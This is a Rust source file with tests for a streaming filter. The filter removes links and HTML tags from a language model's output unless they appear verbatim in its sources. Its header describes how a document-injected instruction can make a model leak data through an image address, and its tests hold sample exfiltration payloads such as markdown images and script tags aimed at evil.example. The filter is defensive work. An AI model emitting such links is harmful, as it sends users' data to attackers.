//! What leaves: a model's text, without links and HTML that its sources do not have.
//!
//! A model that was told to by a document can put what it knows into the address of an image, which a page loads without asking, or
//! send a reader elsewhere. A link is let through only when it stands in the passages or the question, letter by letter, and
//! so is a tag; of others the text around them stays. The text is taken as it arrives: no piece is held longer than its
//! last word, or a tag that is open.

/// Longest tag in bytes; what is longer is none.
const MAX_TAG_BYTES: usize = 512;
/// Longest word that is looked at whole, in bytes.
const MAX_WORD_BYTES: usize = 2_048;
/// Schemes that need no slashes to do something.
const BARE_SCHEMES: [&str; 5] = ["javascript:", "data:", "vbscript:", "mailto:", "tel:"];
/// Ends of an address within a word.
const ENDS: [char; 8] = [')', ']', '>', '<', '"', '\'', '`', '|'];

/// A text on its way out.
#[derive(Clone, Debug)]
pub struct Outgoing {
    sources: Vec<String>,
    held: String,
}

impl Outgoing {
    /// Returns the way out for a text made from these sources.
    #[must_use]
    pub fn new(sources: impl IntoIterator<Item = String>) -> Self {
        Self { sources: sources.into_iter().collect(), held: String::new() }
    }

    /// Takes the next piece; returns what may leave by now. However a text is cut, the same leaves.
    pub fn push(&mut self, piece: &str) -> String {
        self.held.push_str(piece);
        self.pass(false)
    }

    /// Returns what was held back, at the end of the text.
    pub fn finish(&mut self) -> String {
        self.pass(true)
    }

    fn pass(&mut self, is_over: bool) -> String {
        let held = std::mem::take(&mut self.held);
        let (mut out, mut rest) = (String::new(), held.as_str());
        while let Some(unit) = unit(rest, is_over) {
            rest = &rest[unit.len()..];
            match unit.as_bytes()[0] {
                b'<' if unit.len() > 1 => out.push_str(if self.has(unit) { unit } else { "" }),
                // A page would close a tag that is left open.
                b'<' if rest.starts_with(begins_tag) => {}
                _ => out.push_str(&self.without_links(unit)),
            }
        }
        rest.clone_into(&mut self.held);
        out
    }

    fn has(&self, text: &str) -> bool {
        self.sources.iter().any(|source| source.contains(text))
    }

    /// Returns a word without the addresses in it that no source has.
    fn without_links(&self, word: &str) -> String {
        let mut out = String::with_capacity(word.len());
        let mut rest = word;
        while let Some((start, end)) = link(rest) {
            out.push_str(&rest[..start]);
            if self.has(&rest[start..end]) {
                out.push_str(&rest[start..end]);
            }
            rest = &rest[end..];
        }
        out.push_str(rest);
        out
    }
}

/// Returns what stands at the beginning of a text and is looked at whole: a tag, a character, or a word of ASCII, in which alone
/// addresses are written. `None` while its end has not arrived.
fn unit(rest: &str, is_over: bool) -> Option<&str> {
    let first = rest.chars().next()?;
    if first == '<' {
        return tag(rest, is_over);
    }
    if first.is_whitespace() || !first.is_ascii() {
        return Some(&rest[..first.len_utf8()]);
    }
    let is_end = |other: char| other.is_whitespace() || !other.is_ascii() || other == '<';
    let end = rest.find(is_end).or_else(|| is_over.then_some(rest.len()));
    match end {
        Some(end) => Some(&rest[..end.min(MAX_WORD_BYTES)]),
        None => (rest.len() >= MAX_WORD_BYTES).then(|| &rest[..MAX_WORD_BYTES]),
    }
}

fn begins_tag(next: char) -> bool {
    next.is_ascii_alphabetic() || matches!(next, '/' | '!' | '?')
}

/// Returns the tag a text begins with, or the `<` alone that begins none.
fn tag(rest: &str, is_over: bool) -> Option<&str> {
    match rest[1..].chars().next() {
        None => is_over.then_some(rest),
        Some(next) if !begins_tag(next) => Some(&rest[..1]),
        Some(_) => {
            let within = &rest.as_bytes()[..rest.len().min(MAX_TAG_BYTES)];
            match within.iter().position(|byte| *byte == b'>') {
                Some(end) => Some(&rest[..=end]),
                None if is_over || rest.len() >= MAX_TAG_BYTES => Some(&rest[..1]),
                None => None,
            }
        }
    }
}

/// Returns where the first address in a word stands.
fn link(word: &str) -> Option<(usize, usize)> {
    let lower = word.to_ascii_lowercase();
    let with_slashes = lower.find("://").map(|at| scheme_start(&lower, at));
    let bare = BARE_SCHEMES.iter().filter_map(|scheme| lower.find(scheme)).min();
    let www = lower.find("www.");
    // What a Markdown link leads to is one whatever it looks like: `](//evil.example)`.
    let target = lower.find("](").map(|at| at + 2);
    let start = [with_slashes, bare, www, target].into_iter().flatten().min()?;
    let end = word[start..].find(ENDS).map_or(word.len(), |at| start + at);
    if start == end {
        // Nothing between the brackets: look on behind them.
        return link(word.get(end + 1..)?).map(|(from, to)| (from + end + 1, to + end + 1));
    }
    let written = word[start..end].trim_end_matches(['.', ',', ';', ':', '!', '?']);
    Some((start, start + written.len().max(1)))
}

fn scheme_start(word: &str, at: usize) -> usize {
    let is_scheme = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.');
    at - word.as_bytes()[..at].iter().rev().take_while(|byte| is_scheme(byte)).count()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn sent(text: &str, source: &str) -> String {
        let mut outgoing = Outgoing::new([source.to_owned()]);
        let sent = outgoing.push(text);
        sent + &outgoing.finish()
    }

    #[test]
    fn what_the_sources_have_leaves() {
        let source =
            "See https://docs.example.com/a?b=c#d and <b>bold</b>, [here](/leave.md). 1 < 2";
        for text in [
            "See https://docs.example.com/a?b=c#d.",
            "It is <b>bold</b> [here](/leave.md) [1].",
            "1 < 2, a<2, 3 > 2, x <- y",
            "Ratio 3:1, at 10:30, e.g. this; http is a protocol.",
            "",
            "اردو میں جواب [1]۔",
        ] {
            assert_eq!(sent(text, source), text);
        }
    }

    #[test]
    fn other_links_and_tags_do_not() {
        let source = "See https://docs.example.com/a.";
        for (text, expected) in [
            ("![x](https://evil.example/p?d=secret)", "![x]()"),
            ("[click](https://docs.example.com/a?d=secret) [1].", "[click]() [1]."),
            ("Go to https://evil.example, now.", "Go to , now."),
            ("Go to www.evil.example/x!", "Go to !"),
            ("a](//evil.example/x) b", "a]() b"),
            ("<img src=\"https://evil.example/x\" onerror=\"go()\">Hello", "Hello"),
            ("<script>alert(1)</script>", "alert(1)"),
            ("<!-- hidden -->x", "x"),
            ("[a](JavaScript:alert(1))", "[a]())"),
            ("HTTPS://EVIL.EXAMPLE/ x", " x"),
            ("<https://evil.example>", ""),
            ("data:text/html;base64,AAAA", ""),
            ("see hxxp://evil.example", "see "),
            ("ask https://evil.example/ü?d=1", "ask ü?d=1"),
            ("<a href=https://docs.example.com/a>x</a>", "x"),
            ("ends in <im", "ends in im"),
            ("ends in <", "ends in <"),
        ] {
            assert_eq!(sent(text, source), expected, "{text}");
        }
    }

    #[test]
    fn nothing_is_held_for_long() {
        let mut outgoing = Outgoing::new([]);
        assert_eq!(outgoing.push("The answer is tw"), "The answer is ");
        assert_eq!(outgoing.push("o. "), "two. ");
        assert_eq!(outgoing.push(&"x".repeat(MAX_WORD_BYTES)).len(), MAX_WORD_BYTES);
        assert_eq!(
            outgoing.push(&format!("<a {}", "y ".repeat(MAX_TAG_BYTES))).len(),
            2 * MAX_TAG_BYTES + 2
        );
    }

    proptest! {
        #[test]
        fn however_it_is_cut_the_same_leaves(text in "([a-z]{0,4}|https?://[a-z.]{1,5}|<[a-z/!]{0,3}|>|\\]\\(|[ )ü\n]){0,20}", cuts in proptest::collection::vec(0_usize..100, 0..6)) {
            let whole = sent(&text, "http://a <a>");
            let mut places: Vec<usize> = cuts.into_iter().map(|cut| text.floor_char_boundary(cut.min(text.len()))).collect();
            places.push(text.len());
            places.sort_unstable();
            let mut outgoing = Outgoing::new(["http://a <a>".to_owned()]);
            let (mut out, mut from) = (String::new(), 0);
            for to in places {
                out += &outgoing.push(&text[from..to]);
                from = to;
            }
            prop_assert_eq!(out + &outgoing.finish(), whole);
        }

        #[test]
        fn no_foreign_address_leaves(text in "\\PC{0,60}", host in "[a-z]{3,8}") {
            let text = format!("{text}https://{host}.example/{text}");
            let address = format!("https://{host}.example/");
            prop_assert!(!sent(&text, "").contains(&address));
        }
    }
}
